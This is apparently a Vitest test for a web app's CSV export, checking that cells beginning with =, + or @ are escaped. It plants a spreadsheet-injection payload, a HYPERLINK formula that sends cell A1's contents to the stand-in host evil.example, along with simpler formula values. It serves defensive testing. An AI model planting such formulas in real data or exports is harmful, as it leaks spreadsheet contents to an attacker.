import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../../tests/support/test-app.ts';
import { listen, type HttpClient } from '../../../tests/support/http.ts';

/** A system named like a formula must come out of the CSV export as text, never as a live formula (OWASP). */
describe('CSV export', () => {
  let t: TestApp;
  let officer: HttpClient;

  beforeAll(async () => {
    t = await startTestApp();
    officer = await (await listen(t.app)).login('syt.canbo');
  });
  afterAll(async () => {
    await t?.close();
  });

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const me = (await officer.get('/api/auth/me')).json;
    const created = await officer.post('/api/systems', {
      agencyId: me.agencyId,
      code: 'CSV-INJ-1',
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
      purpose: '+1+2',
      cloudProvider: '@SUM(1+1)',
      hosting: 'cloud',
    });
    expect(created.status, created.text).toBe(201);
    const csv = await officer.get('/api/systems/export?format=csv');
    expect(csv.status).toBe(200);
    const line = csv.text.split(/\r?\n/).find((l) => l.startsWith('CSV-INJ-1'))!;
    expect(line).toBeDefined();
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào"")"`);
    expect(line).toContain(`'+1+2`);
    expect(line).toContain(`'@SUM(1+1)`);
    for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
  });
});
